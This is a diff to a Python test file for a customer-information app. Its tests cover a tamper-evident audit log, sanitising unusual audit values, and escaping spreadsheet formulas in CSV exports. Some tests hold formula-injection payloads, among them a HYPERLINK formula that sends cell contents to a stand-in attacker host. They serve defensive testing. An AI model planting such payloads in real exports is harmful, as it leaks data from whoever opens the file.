@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import itertools
 from datetime import date
 from pathlib import Path
@@ -15,11 +17,12 @@ from sqlalchemy.orm import Session
 from tests.factories import make_customer
 from typer.testing import CliRunner
 
-from custinfo.audit import chain
+from custinfo.audit import anchor, chain
 from custinfo.audit.models import AuditEntry
 from custinfo.auth.models import User
 from custinfo.cli.main import app as cli
 from custinfo.core.db import make_session_factory
+from custinfo.core.spreadsheet import safe_cell
 from custinfo.core.uow import Actor, record, unit_of_work
 from custinfo.customers.identifiers import make_id_number
 from custinfo.protection.events import SensitiveFieldRead
@@ -143,11 +146,13 @@ def test_postgres_application_role_may_not_update_audit_rows(
 
 
 def test_cli_verify_exit_codes(own_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CUSTINFO_DATABASE_URL", own_engine.url.render_as_string(hide_password=False))
+    monkeypatch.setenv("CUSTINFO_DATA_DIR", str(tmp_path))
+    monkeypatch.delenv("CUSTINFO_AUDIT_ANCHOR_FILE")
+    monkeypatch.setattr(anchor, "_path", tmp_path / "audit-anchor.jsonl")
     with unit_of_work(make_session_factory(own_engine), Actor("admin", role="admin")) as s:
         for i in range(3):
             record(s, SensitiveFieldRead(customer_id=i + 1, fields=("address",), level="L3", purpose="view"))
-    monkeypatch.setenv("CUSTINFO_DATABASE_URL", own_engine.url.render_as_string(hide_password=False))
-    monkeypatch.setenv("CUSTINFO_DATA_DIR", str(tmp_path))
     runner = CliRunner()
     intact = runner.invoke(cli, ["audit", "verify"])
     assert intact.exit_code == 0, intact.output
@@ -157,7 +162,7 @@ def test_cli_verify_exit_codes(own_engine: Engine, tmp_path: Path, monkeypatch: 
         conn.execute(text("UPDATE audit_log SET actor = 'mallory' WHERE seq = 2"))
     tampered = runner.invoke(cli, ["audit", "verify"])
     assert tampered.exit_code == 1
-    assert "entry 2 was altered" in tampered.output
+    assert "entry 2 was altered (MAC mismatch)" in tampered.output
 
 
 def test_audit_api_filters_and_permissions(client: TestClient, login, session: Session, world) -> None:  # type: ignore[no-untyped-def]
@@ -201,3 +206,82 @@ def test_auditor_page_lists_and_filters(client: TestClient, session: Session, wo
     client.cookies.clear()
     assert sign_in(client, "sales_east1").status_code == 303
     assert client.get("/audit").status_code == 403
+
+
+NASTY_DETAILS = {
+    "nul": "a\x00b",
+    "surrogate": "x\ud800y",
+    "lines": "line one\nline two\ttabbed\r",
+    "long": "长" * 5000,
+    "nan": float("nan"),
+    "inf": float("-inf"),
+    "huge": 2**70,
+    "deep": {"a": {"b": {"c": {"d": {"e": {"f": {"g": "h"}}}}}}},
+    "many": list(range(1000)),
+    "tuple": (1, "2"),
+    "when": date(2026, 1, 2),
+    7: "a key that is not text",
+}
+
+
+def test_audit_values_are_stored_exactly_as_sealed(session: Session) -> None:
+    head = chain.append(
+        session,
+        actor="\t" * 60 + "mallory" + " " * 70,
+        role="r" * 100,
+        action="login.failed",
+        target_type="user",
+        target_id="id\x00" + " " * 200,  # PostgreSQL would silently cut trailing spaces of a too long value
+        customer_id=2**70,
+        details=NASTY_DETAILS,
+        address="::ffff:" + "9" * 100,
+    )
+    session.flush()
+    session.expire_all()
+    entry = session.get(AuditEntry, head.seq)
+    assert entry is not None
+    assert len(entry.actor) == 64 and entry.actor.endswith("…") and "\t" not in entry.actor
+    assert len(entry.role or "") == 20 and len(entry.target_id or "") == 64 and len(entry.address or "") == 64
+    assert "\x00" not in (entry.target_id or "") and entry.customer_id is None
+    details = entry.details
+    assert details["nul"] == "a\ufffdb" and details["surrogate"] == "x\ufffdy"
+    assert details["lines"] == NASTY_DETAILS["lines"]  # line breaks in details are kept
+    assert len(details["long"]) == chain.TEXT_IN_DETAILS and details["nan"] == "nan"
+    assert details["huge"] == str(2**70) and len(details["many"]) == chain.ITEMS_IN_DETAILS
+    assert details["tuple"] == [1, "2"] and details["when"] == "2026-01-02" and details["7"]
+    assert chain.verify(session.connection()).ok
+    fields = {name: getattr(entry, name) for name in chain.HASHED}
+    assert chain.entry_mac(fields, entry.prev_hash) == entry.hash == head.mac
+
+
+def test_oversized_details_are_replaced_by_a_note(session: Session) -> None:
+    head = chain.append(
+        session, actor="x", role=None, action="export", details={f"k{i}": "v" * 900 for i in range(150)}
+    )
+    entry = session.get(AuditEntry, head.seq)
+    assert entry is not None and entry.details["omitted"].startswith("details longer than")
+    assert chain.verify(session.connection()).ok
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_safe_cell_neutralises_every_formula_prefix(prefix: str) -> None:
+    assert safe_cell(f'{prefix}HYPERLINK("http://evil")') == f'\'{prefix}HYPERLINK("http://evil")'
+
+
+def test_safe_cell_leaves_other_values_alone() -> None:
+    assert [safe_cell(v) for v in ("张三", "a=b", "", 42, None, -1)] == ["张三", "a=b", "", 42, None, -1]
+
+
+def test_audit_csv_cells_never_start_a_formula(client: TestClient, login, world) -> None:  # type: ignore[no-untyped-def]
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert _token_attempt(client, payload).status_code == 401
+    assert _token_attempt(client, "@SUM(1+1)").status_code == 401
+    response = client.get("/api/v1/audit/export.csv", params={"action": "login"}, headers=login("admin"))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + payload in cells and "'@SUM(1+1)" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
+def _token_attempt(client: TestClient, username: str):  # type: ignore[no-untyped-def]
+    return client.post("/api/v1/auth/token", data={"username": username, "password": "wrong-password-1"})
